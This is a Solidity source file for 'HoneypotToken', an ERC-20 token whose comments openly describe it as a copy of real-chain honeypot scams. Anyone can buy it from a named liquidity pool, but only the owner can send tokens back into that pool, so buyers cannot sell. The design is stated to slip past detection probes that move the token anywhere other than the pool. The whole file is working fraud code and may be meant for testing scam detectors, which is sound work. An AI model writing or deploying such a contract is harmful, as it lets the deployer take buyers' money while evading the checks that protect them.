// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// @title HoneypotToken
/// @notice An ERC-20 that can be bought and never sold, as the honeypots
/// reported on live chains are: it refuses only a sale's first leg, a
/// transfer TO the pool named at deployment, unless the owner sends it or
/// moves it (`transferFrom` with the owner as the spender); those revert
/// with `TradingNotEnabled`. Everything else passes: the pool's own
/// transfers out (a buy), and wallet-to-wallet or to-router transfers, so a
/// probe that only moves the token somewhere other than its pool finds
/// nothing wrong; a buyer finds out only when trying to sell. Minting, the
/// owner's alone, seeds the pool.
contract HoneypotToken {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    address public immutable owner;
    /// The one account nobody but the owner may send tokens to (a sale).
    address public immutable pool;
    uint256 public totalSupply;

    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    error ERC20InsufficientBalance(address sender, uint256 balance, uint256 needed);
    error ERC20InsufficientAllowance(address spender, uint256 allowance, uint256 needed);
    error ERC20InvalidReceiver(address receiver);
    error OwnableUnauthorizedAccount(address account);
    error TradingNotEnabled();

    constructor(string memory name_, string memory symbol_, address pool_) {
        name = name_;
        symbol = symbol_;
        pool = pool_;
        owner = msg.sender;
    }

    function mint(address to, uint256 value) external {
        if (msg.sender != owner) revert OwnableUnauthorizedAccount(msg.sender);
        if (to == address(0)) revert ERC20InvalidReceiver(to);
        totalSupply += value;
        unchecked {
            balanceOf[to] += value;
        }
        emit Transfer(address(0), to, value);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) {
            if (allowed < value) revert ERC20InsufficientAllowance(msg.sender, allowed, value);
            unchecked {
                allowance[from][msg.sender] = allowed - value;
            }
        }
        _transfer(from, to, value);
        return true;
    }

    function _transfer(address from, address to, uint256 value) private {
        if (to == pool && from != owner && msg.sender != owner) revert TradingNotEnabled();
        if (to == address(0)) revert ERC20InvalidReceiver(to);
        uint256 balance = balanceOf[from];
        if (balance < value) revert ERC20InsufficientBalance(from, balance, value);
        unchecked {
            balanceOf[from] = balance - value;
            balanceOf[to] += value;
        }
        emit Transfer(from, to, value);
    }
}
